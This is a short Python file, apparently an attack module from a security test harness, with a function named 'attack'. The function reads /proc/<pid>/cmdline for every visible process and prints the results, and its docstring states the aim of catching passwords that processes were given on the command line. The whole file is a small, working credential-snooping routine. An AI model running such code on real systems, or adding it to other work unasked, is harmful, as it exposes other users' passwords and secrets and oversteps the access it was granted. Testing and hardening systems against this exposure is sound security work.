"""Reads the command line of every visible process, which often contains passwords."""

import os


def attack(facts: dict[str, str]) -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            print(pid, open(f"/proc/{pid}/cmdline").read())
        except OSError:
            continue
